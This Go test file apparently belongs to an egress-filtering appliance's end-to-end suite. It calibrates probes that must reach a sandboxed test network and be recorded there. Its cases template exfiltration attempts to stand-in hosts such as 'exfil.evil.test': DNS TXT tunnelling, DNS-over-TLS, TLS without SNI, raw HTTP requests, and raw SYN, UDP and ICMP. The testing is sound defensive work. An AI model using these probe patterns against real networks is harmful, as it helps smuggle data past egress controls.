package e2e

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"airlock/e2e/world"
)

// startWorld starts a world for a test, or skips when not root.
func startWorld(t *testing.T) *world.World {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("skipping: the hermetic world needs root (network namespaces); CI runs as root")
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	w, err := world.Start(ctx, world.Options{})
	if err != nil {
		t.Fatalf("start world: %v", err)
	}
	t.Cleanup(func() {
		if err := w.Close(); err != nil {
			t.Errorf("close world: %v", err)
		}
	})
	return w
}

// TestProbeCalibration runs probes from the host, which reaches the world
// directly with no appliance in the way: each must report REACHED, and the
// world must record it. A probe that cannot see a success could never show
// a bypass, so this is what makes the suite's "refused" mean something.
func TestProbeCalibration(t *testing.T) {
	w := startWorld(t)
	python := "/usr/bin/python3" // Debian's, like the sandbox image's
	if _, err := os.Stat(python); err != nil {
		if python, err = exec.LookPath("python3"); err != nil {
			t.Skip("skipping: python3 is not installed on the host")
		}
	}
	script := filepath.Join(t.TempDir(), "probe.py")
	if err := os.WriteFile(script, ProbeScript, 0o644); err != nil {
		t.Fatal(err)
	}
	env := EnvFor(w)
	env.Probe = python + " " + script
	host := w.HostAddr.String()
	cases := []struct {
		name string
		cmd  string
		sent bool // the probe cannot see success; the world's records must
	}{
		{"tcp", "{{probe}} tcp {{canary}} 22 'SSH-2.0-{{mark}}\n'", false},
		{"udp", "{{probe}} udp {{canary}} 9999 {{mark}}", false},
		{"quic", "{{probe}} quic {{canary}} 443", false},
		{"raw icmp", "{{probe}} rawicmp {{canary}}", false},
		{"dns udp", "{{probe}} dns udp {{worlddns}} 53 {{mark}}.exfil.evil.test TXT", false},
		{"dns tcp", "{{probe}} dns tcp {{worlddns}} 53 {{mark}}.exfil.evil.test A", false},
		{"dnsmany", "{{probe}} dnsmany {{worlddns}} pkg.example.test 5 {{mark}}", false},
		{"dot", "{{probe}} tls {{evil}} 853 dot.evil.test dot.evil.test /{{mark}}", false},
		{"tls no sni", "{{probe}} tls {{evil}} 443 '' evil.test /{{mark}}", false},
		{"absolute form", "{{probe}} raw {{evil}} 80 0 '' {{raw}}", false},
		{"keepalive", "{{probe}} keepalive {{evil}} 443 evil.test evil.test /a evil.test /{{mark}}", false},
		{"raw syn", "{{probe}} rawsyn " + host + " {{canary}} 8443", true},
		{"raw udp", "{{probe}} rawudp " + host + " {{canary}} 4444", true},
	}
	if w.Addr6(world.RoleCanary).IsValid() {
		cases = append(cases, struct {
			name string
			cmd  string
			sent bool
		}{"tcp6", "{{probe}} tcp6 {{canary6}} 80", false})
	}
	for i, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			mark := "cal" + string(rune('a'+i)) + w.ID
			cmd, err := env.Expand(Attempt{Name: c.name, Cmd: c.cmd,
				Raw: "GET http://evil.test/{{mark}} HTTP/1.1\nHost: evil.test\nConnection: close\n\n"}, mark)
			if err != nil {
				t.Fatal(err)
			}
			before := w.Mark()
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			out, err := exec.CommandContext(ctx, "sh", "-c", cmd).CombinedOutput()
			if c.sent {
				if !strings.HasPrefix(string(out), "REFUSED: SENT") {
					t.Fatalf("%s: %s (%v)", cmd, out, err)
				}
			} else if err != nil || !strings.HasPrefix(string(out), "REACHED:") {
				t.Fatalf("%s: the probe did not see its success: %s (%v)", cmd, out, err)
			}
			deadline := time.Now().Add(3 * time.Second)
			for len(w.Since(before, world.Leaks)) == 0 && len(w.Since(before, world.Containing(mark))) == 0 {
				if time.Now().After(deadline) {
					t.Fatalf("%s: the world recorded nothing", cmd)
				}
				time.Sleep(20 * time.Millisecond)
			}
		})
	}
}
